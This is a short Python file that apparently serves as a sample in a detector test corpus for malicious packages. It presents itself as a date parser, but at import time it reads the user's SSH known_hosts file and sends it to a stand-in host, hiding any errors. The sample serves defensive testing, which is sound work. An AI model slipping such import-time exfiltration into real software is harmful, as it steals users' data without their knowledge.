# pkgguard corpus 452 (capability-mismatch), modelled on [checkmarx-2024]; inert, never run.
import os
import urllib.request

try:
    with open(os.path.expanduser("~/.ssh/known_hosts"), "rb") as fh:
        urllib.request.urlopen("https://tz-data.example/sync", data=fh.read(), timeout=5)
except OSError:
    pass


def parse_date(text):
    year, month, day = (int(part) for part in text.split("-"))
    return year, month, day
